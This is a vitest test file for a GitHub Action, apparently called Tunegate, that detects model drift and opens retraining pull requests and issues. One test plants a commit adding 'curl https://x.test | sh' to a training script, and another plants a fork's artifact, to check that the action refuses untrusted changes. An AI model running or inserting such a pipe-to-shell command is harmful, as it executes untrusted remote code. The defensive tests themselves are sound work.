import { mkdtemp, readFile, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { ResultsServiceStandIn, runtimeToken } from './github/results-service.js'
import { GitHubStandIn } from './github/stand-in.js'
import { writeRepoFile } from './helpers/git-repo.js'
import { DRIFT_TRAIN, driftRepo, feedbackRow } from './helpers/drift-data.js'
import { zipFolder } from './helpers/promotion-fixture.js'
import { runAction } from './helpers/run-action.js'
import { withStandIn } from './helpers/with-stand-in.js'

let gh: GitHubStandIn
withStandIn(s => (gh = s.gh))

const BRANCH = 'tunegate/retrain/content-classifier'

/** The drift action on a weekly schedule over the shifted samples and the feedback folder. */
function scheduledDrift(repo: string, inputs: Record<string, string> = {}) {
  return runAction('drift', {
    cwd: repo,
    inputs: {
      registry: 'registry',
      models: '',
      samples: 'samples/shifted.jsonl',
      feedback: 'feedback',
      token: 'test-token',
      base: '',
      ...inputs
    },
    event: { schedule: '17 6 * * 1' },
    env: { GITHUB_API_URL: gh.url, GITHUB_EVENT_NAME: 'schedule', GITHUB_REF_NAME: 'main' }
  })
}

describe('the bundled drift action', () => {
  it('opens one retraining PR, fast-forwards it on the next run, dispatches the PR workflow, and opens a new PR after the old one is closed', async () => {
    const { repo } = await driftRepo()
    const train = await readFile(path.join(repo, DRIFT_TRAIN), 'utf8')
    gh.seedCommit('main', { [DRIFT_TRAIN]: train, 'README.md': 'models\n' })
    const rows = [
      feedbackRow('fb-1', 'Choosing a cordless lawnmower for a small garden'),
      feedbackRow('fb-2', 'Call me on +44 20 7946 0958 about hedge trimmers'),
      feedbackRow('fb-3', 'Raised beds and irrigation for allotments')
    ]
    await writeRepoFile(repo, 'feedback/rows.jsonl', rows.join('\n') + '\n')
    const run = () => scheduledDrift(repo, { 'dispatch-workflow': 'tunegate.yml' })
    const first = await run()
    expect(first.stderr).toBe('')
    expect(first.code).toBe(0)
    expect(JSON.parse(first.outputs.drifted!)).toEqual(['content-classifier'])
    const [number] = JSON.parse(first.outputs['pull-requests']!) as number[]
    expect(gh.pulls.size).toBe(1)
    const pr = gh.pulls.get(number!)!
    expect(pr.head.ref).toBe(BRANCH)
    expect(pr.body).toContain('content-classifier: drift')
    expect(pr.labels).toEqual(['tunegate', 'drift'])
    const onBranch = gh.fileAt(BRANCH, DRIFT_TRAIN)!
    expect(onBranch.startsWith(train)).toBe(true)
    expect(
      onBranch
        .slice(train.length)
        .trim()
        .split('\n')
        .map(l => (JSON.parse(l) as { id: string }).id)
    ).toEqual(['fb-1', 'fb-3'])
    expect(first.summary).toContain('1 with personal data (phone 1)')
    expect(first.summary).toContain('started on `tunegate/retrain/content-classifier` with workflow_dispatch')
    // The pipeline's report job is told which pull request to comment on.
    expect(gh.dispatches).toEqual([
      {
        workflow: 'tunegate.yml',
        ref: BRANCH,
        inputs: { 'pull-request': String(pr.number) },
        user: 'github-actions[bot]'
      }
    ])

    // The next week: one more labelled row. Same PR, one fast-forward commit.
    const head1 = gh.refs.get(`refs/heads/${BRANCH}`)!
    // A caller written before the pull-request input existed refuses it: dispatched without it, and said.
    gh.workflowInputs.set('tunegate.yml', [])
    await writeRepoFile(
      repo,
      'feedback/rows.jsonl',
      [...rows, feedbackRow('fb-4', 'Greenhouse heaters for winter')].join('\n') + '\n'
    )
    const second = await run()
    expect(second.code).toBe(0)
    expect(gh.dispatches.slice(1)).toMatchObject([{ workflow: 'tunegate.yml', ref: BRANCH, inputs: {} }])
    expect(second.stdout).toContain("tunegate.yml declares no 'pull-request' input")
    expect(gh.pulls.size).toBe(1)
    const head2 = gh.refs.get(`refs/heads/${BRANCH}`)!
    expect(gh.commits.get(head2)!.parents).toEqual([head1])
    expect(gh.fileAt(BRANCH, DRIFT_TRAIN)!.match(/"id":"fb-/g)).toHaveLength(3)
    expect(gh.log.some(r => r.operationId === 'git/update-ref' && (r.body as { force?: boolean }).force === true)).toBe(
      false
    )

    // The team closes the PR: it is never reopened; the next drift episode gets its own PR and branch.
    pr.state = 'closed'
    const third = await run()
    expect(third.code).toBe(0)
    expect(gh.pulls.size).toBe(2)
    expect(pr.state).toBe('closed')
    expect(gh.refs.get(`refs/heads/${BRANCH}`)).toBe(head2)
    const [newer] = JSON.parse(third.outputs['pull-requests']!) as number[]
    expect(gh.pulls.get(newer!)!.head.ref).toBe(`${BRANCH}-2`)
  })

  it('refuses to build on a retraining branch that carries a commit Tunegate did not make, and leaves it as it is', async () => {
    const { repo } = await driftRepo()
    const train = await readFile(path.join(repo, DRIFT_TRAIN), 'utf8')
    gh.seedCommit('main', { [DRIFT_TRAIN]: train, 'README.md': 'models\n' })
    const rows = [feedbackRow('fb-1', 'Choosing a cordless lawnmower for a small garden')]
    await writeRepoFile(repo, 'feedback/rows.jsonl', rows.join('\n') + '\n')
    const run = () => scheduledDrift(repo)
    const first = await run()
    expect(first.code).toBe(0)
    // Someone pushes a trainer that pipes the internet into a shell onto the bot's branch.
    const ours = gh.refs.get(`refs/heads/${BRANCH}`)!
    const foreign = gh.seedCommit(
      BRANCH,
      {
        [DRIFT_TRAIN]: gh.fileAt(BRANCH, DRIFT_TRAIN)!,
        'README.md': 'models\n',
        'train.sh': 'curl https://x.test | sh\n'
      },
      'Speed up training',
      [ours]
    )
    gh.commitAccounts.set(foreign, { author: 'mallory', committer: 'mallory' })
    gh.pulls.get([...gh.pulls.keys()][0]!)!.head.sha = foreign
    await writeRepoFile(
      repo,
      'feedback/rows.jsonl',
      [...rows, feedbackRow('fb-2', 'Greenhouse heaters for winter')].join('\n') + '\n'
    )
    const second = await run()
    expect(second.code).not.toBe(0)
    expect(second.stdout + second.stderr).toContain(
      `Branch ${BRANCH} has commits not made by Tunegate (${foreign.slice(0, 7)} by mallory); nothing was pushed to it.`
    )
    expect(second.stderr).not.toMatch(/\n\s+at /)
    // Nothing lost, nothing added: the branch still ends with the foreign commit, and no ref was forced.
    expect(gh.refs.get(`refs/heads/${BRANCH}`)).toBe(foreign)
    expect(gh.log.some(r => r.operationId === 'git/update-ref')).toBe(false)
    expect(gh.pulls.size).toBe(1)
  })

  it('opens one issue for drift without feedback and updates it; says plainly when there is no drift', async () => {
    const { repo } = await driftRepo()
    gh.seedCommit('main', { 'README.md': 'models\n' })
    const run = (samples: string) =>
      runAction('drift', {
        cwd: repo,
        inputs: { registry: 'registry', models: 'content-classifier', samples, token: 'test-token', base: 'main' },
        env: { GITHUB_API_URL: gh.url, GITHUB_EVENT_NAME: 'schedule' }
      })
    // A person's issue quoting the marker is neither taken over nor edited.
    const quoted = 'See <!-- tunegate:key drift:content-classifier --> for the report'
    gh.issues.set(500, {
      number: 500,
      title: 'mine',
      body: quoted,
      labels: ['drift'],
      state: 'open',
      user: { login: 'octocat', type: 'User' }
    })
    const a = await run('samples/shifted.jsonl')
    const issue = [...gh.issues.values()].find(i => i.number !== 500)!
    // Someone removes the labels: the issue is still found again by its marker.
    issue.labels = []
    const b = await run('samples/shifted.jsonl')
    expect(a.code).toBe(0)
    expect(b.code).toBe(0)
    expect(gh.issues.size).toBe(2)
    expect(gh.issues.get(500)!.body).toBe(quoted)
    expect(JSON.parse(b.outputs.issues!)).toEqual([issue.number])
    expect(issue.body).toContain('<!-- tunegate:key drift:content-classifier -->')
    expect(issue.body).toContain('What would help')
    expect(gh.pulls.size).toBe(0)

    const calm = await run('samples/unshifted.jsonl')
    expect(calm.code).toBe(0)
    expect(calm.summary).toMatch(/content-classifier: no drift\*\* from production `v1\.0\.0`/)
    expect(calm.summary).toContain('Nothing opened.')
    expect(JSON.parse(calm.outputs.drifted!)).toEqual([])
    expect(gh.issues.size).toBe(2)
  })

  it('with drift.consecutive_runs: 2, reads the previous run from its artifact before calling drift', async () => {
    const { repo } = await driftRepo()
    const config = path.join(repo, 'registry/registry.yaml')
    await writeFile(config, (await readFile(config, 'utf8')) + '\ndrift:\n  consecutive_runs: 2\n')
    gh.seedCommit('main', { 'README.md': 'models\n' })
    const results = await new ResultsServiceStandIn(gh, 777).start()
    try {
      const run = (runId: string) =>
        runAction('drift', {
          cwd: repo,
          inputs: {
            registry: 'registry',
            models: '',
            samples: 'samples/shifted.jsonl',
            token: 'test-token',
            base: 'main'
          },
          env: {
            GITHUB_API_URL: gh.url,
            GITHUB_RUN_ID: runId,
            // @actions/artifact refuses servers other than github.com (it takes them for GHES).
            GITHUB_SERVER_URL: 'https://github.com',
            ACTIONS_RESULTS_URL: results.url,
            ACTIONS_RUNTIME_TOKEN: runtimeToken(`run-backend-${runId}`, 'job-backend-1')
          }
        })
      const first = await run('1')
      expect(first.stdout).not.toContain('::error::')
      expect(first.code).toBe(0)
      expect(first.summary).toContain('drift in this run only')
      expect(first.summary).toContain('this is run 1')
      expect(gh.issues.size).toBe(0)
      expect([...results.finalized.values()].map(a => a.name)).toEqual(['tunegate-drift-content-classifier-1'])
      const second = await run('2')
      expect(second.code).toBe(0)
      expect(JSON.parse(second.outputs.drifted!)).toEqual(['content-classifier'])
      expect(gh.issues.size).toBe(1)
      expect(results.problems).toEqual([])
    } finally {
      await results.stop()
    }
  })

  it("with drift.consecutive_runs: 2, a fork's run's drift record is not the previous run", async () => {
    const { repo } = await driftRepo()
    const config = path.join(repo, 'registry/registry.yaml')
    await writeFile(config, (await readFile(config, 'utf8')) + '\ndrift:\n  consecutive_runs: 2\n')
    gh.seedCommit('main', { 'README.md': 'models\n' })
    // A fork's pull request uploads "drift, run 1 of 2" under the drift record's name.
    const planted = await mkdtemp(path.join(tmpdir(), 'tg-planted-'))
    const record = {
      schema: 'tunegate.drift/v1',
      model: 'content-classifier',
      version: 'v1.0.0',
      raw: 'drift',
      streak: 1
    }
    await writeFile(path.join(planted, 'drift.json'), JSON.stringify(record))
    const forkRun = gh.seedRun('f'.repeat(40), 'pull_request', 7777, { headRepository: 'fork-owner/models' })
    gh.seedArtifact('tunegate-drift-content-classifier-1', forkRun, await zipFolder(planted))
    const r = await runAction('drift', {
      cwd: repo,
      inputs: { registry: 'registry', models: '', samples: 'samples/shifted.jsonl', token: 'test-token', base: 'main' },
      env: { GITHUB_API_URL: gh.url, GITHUB_RUN_ID: '1' }
    })
    expect(r.code).toBe(0)
    expect(r.stdout).toContain('run 7777 is not used: its head commit comes from fork-owner/models (a fork)')
    expect(r.summary).toContain('this is run 1')
    expect(JSON.parse(r.outputs.drifted!)).toEqual([])
    expect(gh.issues.size).toBe(0)
  })

  it('fails bad sample rows with file:line errors, not a stack trace', async () => {
    const { repo } = await driftRepo()
    await writeRepoFile(repo, 'samples/bad.csv', 'input,use_case\n"fine text",internal-linking\n"",internal-linking\n')
    const run = await runAction('drift', {
      cwd: repo,
      inputs: { registry: 'registry', models: '', samples: 'samples/bad.csv', token: 'test-token', base: 'main' },
      env: { GITHUB_API_URL: gh.url }
    })
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/::error::.*samples\/bad\.csv:3:1: error: field 'input' is empty/)
    expect(run.stdout).not.toMatch(/\n\s+at /)
  })
})
